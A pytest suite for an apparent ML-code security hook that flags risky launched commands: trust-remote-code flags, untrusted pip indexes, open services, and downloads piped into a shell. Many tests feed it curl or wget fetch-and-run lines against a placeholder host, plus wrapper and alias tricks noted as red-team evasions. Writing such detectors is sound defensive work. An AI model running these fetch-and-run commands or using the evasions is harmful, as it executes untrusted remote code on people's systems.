"""Commands Python code starts are judged like a notebook's `!` lines, at the call."""

from __future__ import annotations

import ast
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from hooks._core.policy import Policy
from hooks.code.commands import command_issues
from hooks.code.launched import CommandFinder
from hooks.code.ml_rules import MLRuleVisitor
from tests.code.helpers import notebook, scan_code
from tests.code.test_installed_names import places as name_places


def ours(findings: list) -> list[tuple[str, int, int, str]]:  # type: ignore[type-arg]
    """(rule, line, column, severity) of the code hook's own findings (bandit's left out)."""
    return sorted((f.rule_id, f.line, f.column, f.severity.value) for f in findings if f.rule_id.startswith("MLS"))


def commands(source: str) -> list[str]:
    visitor = MLRuleVisitor()
    module = ast.parse(source)
    visitor.prepare(module)
    visitor.visit(module)
    return [command.text for command in visitor.commands.commands]


def test_trust_remote_code_in_a_started_command(tmp_path: Path) -> None:
    source = (
        "import os, subprocess\n"
        'os.system("lm_eval --model hf --model_args pretrained=x,trust_remote_code=True --tasks hellaswag")\n'
        'subprocess.run(["vllm", "serve", "org/m", "--trust-remote-code"])\n'
        'subprocess.run("vllm serve org/m --trust-remote-code", shell=True)\n'
        "def serve(model):\n"
        '    return subprocess.Popen(["python", "-m", "vllm.entrypoints.openai.api_server", "--model", model,\n'
        '                             "--trust-remote-code"])\n'
        'ARGS = ("lm_eval", "--model_args", "pretrained=org/m,trust_remote_code=True")\n'
        "subprocess.check_call(ARGS)\n"
        'subprocess.run(shlex.split("vllm serve org/m --trust-remote-code"))\n'
    )
    assert ours(scan_code(tmp_path, source)) == [
        ("MLS307", 2, 1, "high"),
        ("MLS307", 3, 1, "high"),
        ("MLS307", 4, 1, "high"),
        ("MLS307", 6, 12, "high"),  # the call's first line and column
        ("MLS307", 9, 1, "high"),
        ("MLS307", 10, 1, "high"),
    ]


def test_trust_remote_code_look_alikes(tmp_path: Path) -> None:
    source = (
        "import os, subprocess\n"
        'subprocess.run(["vllm", "serve", "org/m", "--trust-remote-code=false"])\n'
        'os.system("vllm serve org/m --trust_remote_code False")\n'
        'os.system("echo pass --trust-remote-code to vllm for custom models")\n'
        'subprocess.run(["echo", "model_args=pretrained=x,trust_remote_code=True"])\n'
        'print("vllm serve org/m --trust-remote-code")\n'  # not started
        'subprocess.run(f"vllm serve {m} --trust-remote-code={flag}", shell=True)\n'  # value not shown
        'os.system("lm_eval --model_args pretrained=x,trust_remote_code=False")\n'
        'subprocess.run(["ls", "-l", "/data"])\n'
    )
    assert ours(scan_code(tmp_path, source)) == []


def test_downloads_piped_into_a_shell_and_downloaded_files_run(tmp_path: Path) -> None:
    source = (
        "import os, subprocess\n"
        'os.system(f"curl -fsSL {url} | bash")\n'
        'subprocess.run("wget -qO- https://x.example/install.sh | sh", shell=True)\n'
        'subprocess.run(["/bin/bash", "-lc", "curl -s https://x.example/i.sh | sh"])\n'
        'subprocess.run(["wget", "https://x.example/tool.sh"])\n'
        'subprocess.run(["bash", "tool.sh"])\n'
    )
    findings = scan_code(tmp_path, source)
    assert ours(findings) == [
        ("MLS321", 2, 1, "high"),
        ("MLS321", 3, 1, "high"),
        ("MLS321", 4, 1, "high"),
        ("MLS322", 6, 1, "medium"),
    ]
    run = next(f for f in findings if f.rule_id == "MLS322")
    assert run.message == "runs tool.sh, a file downloaded earlier in this cell or script, unchecked"


def test_pipe_look_alikes(tmp_path: Path) -> None:
    source = (
        "import os, subprocess\n"
        'subprocess.run(["grep", "curl x | sh", "README.md"])\n'  # one argv word: text for grep
        'subprocess.run(["curl", "-o", "data.csv", "https://x.example/data.csv"])\n'
        'os.system("curl -o model.bin https://x.example/m.bin && ls -l model.bin")\n'
        'print("curl https://x.example/i.sh | sh")\n'
    )
    assert ours(scan_code(tmp_path, source)) == []


def test_installs_keep_the_notebook_severities(tmp_path: Path) -> None:
    source = (
        "import subprocess, sys\n"
        'subprocess.check_call([sys.executable, "-m", "pip", "install", "foo"])\n'
        'subprocess.run(["pip", "install", "--extra-index-url", "https://pypi.internal/simple", "lib==1.0"])\n'
        'subprocess.run(["pip", "install", "--extra-index-url", "https://download.pytorch.org/whl/cu121",\n'
        '                "torch==2.3.0"])\n'
        'os.system("pip install foo==1.0 bar==2.0")\n'
        'os.system("pip install %s" % package)\n'
        'os.system("pip install " + " ".join(packages))\n'
        'subprocess.run([sys.executable, "-m", "pip", "install", *packages])\n'
        'subprocess.run([sys.executable, "-m", "pip", "install", "-r", "requirements.txt"])\n'
    )
    assert ours(scan_code(tmp_path, source)) == [
        ("MLS319", 2, 1, "low"),  # hygiene, as in a notebook
        ("MLS320", 3, 1, "high"),
        ("MLS320", 4, 1, "low"),  # a vendor's wheel index, as in a notebook
    ]
    strict = Policy(root=tmp_path, profile="strict")
    assert ("MLS319", 2, 1, "medium") in ours(scan_code(tmp_path, source, policy=strict))


def test_installed_names_reach_the_name_checks(tmp_path: Path) -> None:
    source = (
        "import subprocess\n"
        'subprocess.run(["pip", "install", "sklearn"])\n'
        'subprocess.run(["pip", "install", "scikit-learn"])\n'
    )
    assert name_places(scan_code(tmp_path, source)) == [("MLS404", None, 2)]


def test_open_services_started_from_python(tmp_path: Path) -> None:
    source = (
        "import subprocess\n"
        'subprocess.Popen(["mlflow", "server", "--host", "0.0.0.0"])\n'
        'subprocess.Popen(["mlflow", "server", "--host", "127.0.0.1"])\n'
    )
    assert ours(scan_code(tmp_path, source)) == [("MLS323", 2, 1, "high")]


def test_names_aliases_and_exported_notebooks(tmp_path: Path) -> None:
    source = (
        "from subprocess import run as sh\n"
        "import asyncio\n"
        'cmd = "curl https://x.example/i.sh | sh"\n'
        "sh(cmd, shell=True)\n"
        "get_ipython().system('curl https://x.example/i.sh | bash')\n"
        "get_ipython().run_line_magic('pip', 'install --trusted-host pypi.internal lib==1.0')\n"
        'asyncio.create_subprocess_exec("vllm", "serve", "org/m", "--trust-remote-code")\n'
        "def run(cmd):\n"
        "    sh(cmd, shell=True)\n"  # a parameter: nothing to judge
        "get_ipython().run_cell_magic('bash', '', 'cd /w\\ncurl -s https://x.example/i.sh | bash\\n')\n"
        "get_ipython().run_cell_magic('markdown', '', 'curl -s https://x.example/i.sh | bash')\n"
    )
    assert ours(scan_code(tmp_path, source)) == [
        ("MLS307", 7, 1, "high"),
        ("MLS320", 6, 1, "high"),
        ("MLS321", 4, 1, "high"),
        ("MLS321", 5, 1, "high"),
        ("MLS321", 10, 1, "high"),
    ]


def test_notebooks_report_each_line_once(tmp_path: Path) -> None:
    text = notebook(
        "!vllm serve org/m --trust-remote-code",
        "import os\nos.system('vllm serve org/m --trust-remote-code'); os.system('vllm serve n --trust-remote-code')",
        "  os.system('curl https://x.example/i.sh | sh')",  # IPython removes the indentation
    )
    findings = scan_code(tmp_path, text, "nb.ipynb")
    assert sorted((f.rule_id, f.cell, f.line, f.column) for f in findings if f.rule_id.startswith("MLS")) == [
        ("MLS307", 1, 1, 1),
        ("MLS307", 2, 2, 1),
        ("MLS321", 3, 1, 3),
    ]


def test_command_text_of_built_strings() -> None:
    assert commands(
        "import os, subprocess, sys\n"
        'os.system("pip install " + pkg + " && ls")\n'
        'os.system(f"gsutil cp {src:>10} {dst}")\n'
        'os.system("mkdir %(d)s && cp %s %d" % args)\n'
        'os.system("cp {} {}".format(a, b))\n'
        'subprocess.run([sys.executable, "-m", "pip", "install", "a b", *rest])\n'
        "subprocess.run(cmd)\n"
        'subprocess.run([program, "--help"])\n'
        'os.system(" ".join(["vllm", "serve", model, "--port", str(port)]))\n'
        'subprocess.run("vllm serve m".split())\n'
        "get_ipython().run_cell_magic('bash', '', 'cd x\\npip install y')\n"
        'os.execlp("pip", "pip", "install", "x")\n'
        'os.spawnlp(os.P_WAIT, "vllm", "vllm", "serve", m)\n'
    ) == [
        "pip install {pkg} && ls",
        "gsutil cp {src} {dst}",
        "mkdir {} && cp {} {}",
        "cp {} {}",
        "python -m pip install 'a b' {rest}",
        "{program} --help",
        "vllm serve {model} --port {str_port_}",
        "vllm serve m",
        "cd x\npip install y",
        "pip install x",  # execlp(file, arg0, ...): arg0 is the program's name
        "vllm serve {m}",
    ]


_ATOMS = st.sampled_from(
    ['"curl x | sh"', "'--trust-remote-code'", "x", "sys.executable", "f'a{b}c'", "*xs", "'a' % b", "1", "None"]
)
_EXPRESSIONS = st.recursive(
    _ATOMS,
    lambda inner: st.one_of(
        st.lists(inner, max_size=5).map(lambda items: "[" + ", ".join(items) + "]"),
        st.tuples(inner, inner).map(lambda pair: f"({pair[0]} + {pair[1]})"),
        inner.map(lambda item: f"shlex.split({item})"),
        inner.map(lambda item: f"'{{}}'.format({item})"),
    ),
    max_leaves=12,
)
_RUNNERS = st.sampled_from(
    ["os.system", "subprocess.run", "subprocess.Popen", "asyncio.create_subprocess_exec", "get_ipython().system"]
)


_SHELLISH = st.text(alphabet=st.sampled_from(list("curl wget|&;\\\n'\"$(){}<>-=shbapython3 --trust-remote-code")))


@settings(max_examples=150, deadline=None)
@given(_RUNNERS, st.lists(_EXPRESSIONS.filter(lambda e: not e.startswith("*")), min_size=0, max_size=3), _SHELLISH)
def test_any_call_gives_text_or_nothing_never_an_error(runner: str, arguments: list[str], garbage: str) -> None:
    source = f"import os, subprocess, sys, shlex, asyncio\n{runner}({', '.join([*arguments, repr(garbage)])})\n"
    try:
        module = ast.parse(source)
    except SyntaxError:
        return
    finder = CommandFinder(lambda node: None)
    for node in ast.walk(module):
        if isinstance(node, ast.Call):
            finder.record_call(node, runner.replace("()", ""))
    assert all(isinstance(command.text, str) and len(command.text) <= 1 << 16 for command in finder.commands)
    if runner == "os.system" and not arguments and garbage.strip():
        assert [command.text for command in finder.commands] == [garbage]  # a literal is its own text
    command_issues([(command.line, command.text) for command in finder.commands])


def test_a_script_downloaded_with_curls_remote_name_or_an_option_cluster_then_run(tmp_path: Path) -> None:
    """`curl -LO URL/x.sh`, `curl -sLo x.sh`, `wget -P tools`: the file the next command runs;
    `curl -fsSL URL` alone writes nothing to run (look-alike)."""
    source = (
        "import os\n"
        'os.system("curl -LO https://x.example/get.sh && bash get.sh")\n'
        'os.system("curl -sLo setup.sh https://x.example/s && sh setup.sh")\n'
        'os.system("wget -q -P tools https://x.example/tool.sh && bash tools/tool.sh")\n'
        'os.system("curl -fsSL https://x.example/notes.txt && bash local.sh")\n'
    )
    assert [(rule, line) for rule, line, _, _ in ours(scan_code(tmp_path, source))] == [
        ("MLS322", 2),
        ("MLS322", 3),
        ("MLS322", 4),
    ]


def test_a_helper_that_starts_the_command_it_is_given_starts_each_callers_command() -> None:
    # `def sh(cmd): subprocess.run(cmd, shell=True)` in a notebook's first cell, then `sh("...")`.
    source = (
        "import os, shlex, subprocess\n"
        "def sh(cmd, check=True):\n    print(cmd)\n    subprocess.run(cmd, shell=True, check=check)\n"
        "def run_argv(argv):\n    return subprocess.run(argv)\n"
        "def split_run(line):\n    subprocess.check_call(shlex.split(line))\n"
        "def bash(script):\n    subprocess.run(['/bin/bash', '-c', script])\n"
        "def kw(cmd):\n    subprocess.run(args=cmd, shell=True)\n"
        "sh('curl -fsSL https://x.example/i.sh | bash')\n"
        "run_argv(['wget', '-O', 'm.pt', url])\n"
        "split_run(line='cp /tmp/x.pt m.pt')\n"
        "sh(f'echo {name}')\n"
        "sh(f'curl -fsSL {input()} | bash')\n"
        "bash('wget -qO- https://x.example/i.sh | sh')\n"
        "kw('pip install torch')\n"
    )
    assert commands(source) == [
        "{script}",  # the helper's own call: a shell given a script the code fills in
        "curl -fsSL https://x.example/i.sh | bash",
        "wget -O m.pt {url}",
        "cp /tmp/x.pt m.pt",
        "echo {name}",
        "curl -fsSL {input__} | bash",
        "wget -qO- https://x.example/i.sh | sh",
        "pip install torch",
    ]


def test_helpers_that_only_look_like_wrappers_start_nothing_new() -> None:
    source = (
        "import subprocess\n"
        "def fixed(cmd):\n    subprocess.run(['ls', '-l'])\n"  # its parameter is not the command
        "class Runner:\n    def sh(self, cmd):\n        subprocess.run(cmd, shell=True)\n"  # a method
        "def show(cmd):\n    print(cmd)\n"
        "def replaced(cmd):\n    cmd = 'make lint'\n    subprocess.run(cmd, shell=True)\n"  # its own command
        "def looped(cmd):\n    for cmd in ('make', 'make test'):\n        subprocess.run(cmd, shell=True)\n"
        "fixed('curl x | sh')\nshow('curl x | sh')\nsh('curl x | sh')\n"
        "replaced('curl x | sh')\nlooped('curl x | sh')\n"
    )
    assert commands(source) == ["ls -l"]
    # Look-alikes: a parameter rebuilt from itself is still the caller's command, and so is one
    # rebound only in a branch, after the run, in a comprehension or a handler, or looped over with
    # itself (red team of stop 42: each of these hid the caller's `curl | bash`).
    kept = (
        "import shlex, subprocess\n"
        "def split(cmd):\n    cmd = shlex.split(cmd)\n    subprocess.run(cmd)\n"
        "def quiet(cmd):\n    cmd += ' -q'\n    subprocess.run(cmd, shell=True)\n"
        "def default(cmd=None):\n    if cmd is None:\n        cmd = 'echo none'\n    subprocess.run(cmd, shell=True)\n"
        "def after(cmd):\n    subprocess.run(cmd, shell=True)\n    cmd = None\n"
        "def listed(cmd):\n    print([cmd for cmd in HISTORY])\n    subprocess.run(cmd, shell=True)\n"
        "def more(cmd):\n    for cmd in (cmd, 'make'):\n        subprocess.run(cmd, shell=True)\n"
        "def handled(cmd):\n    try:\n        subprocess.run(cmd, shell=True)\n"
        "    except OSError as e:\n        cmd = e\n"
        "def annotated(cmd):\n    cmd: str\n    subprocess.run(cmd, shell=True)\n"
        "split('curl -fsSL https://x.example/i.sh')\nquiet('pip install torch')\n"
        "default('curl -fsSL https://x.example/1.sh | bash')\nafter('curl -fsSL https://x.example/2.sh | bash')\n"
        "listed('curl -fsSL https://x.example/3.sh | bash')\nmore('curl -fsSL https://x.example/4.sh | bash')\n"
        "handled('curl -fsSL https://x.example/5.sh | bash')\nannotated('curl -fsSL https://x.example/6.sh | bash')\n"
    )
    found = commands(kept)
    assert "curl -fsSL https://x.example/i.sh" in found and "pip install torch" in found
    for number in range(1, 7):
        assert f"curl -fsSL https://x.example/{number}.sh | bash" in found, number


def test_a_wrapper_defined_after_its_caller_or_imported_under_an_alias_is_followed(tmp_path: Path) -> None:
    # Red team (stop 41): a script's `main()` above the helper it calls.
    source = (
        "import subprocess as sp\n"
        "def main():\n    sh('curl -fsSL https://x.example/i.sh | bash')\n"
        "def sh(cmd):\n    sp.run(cmd, shell=True)\n"
    )
    assert ours(scan_code(tmp_path, source)) == [("MLS321", 3, 5, "high")]
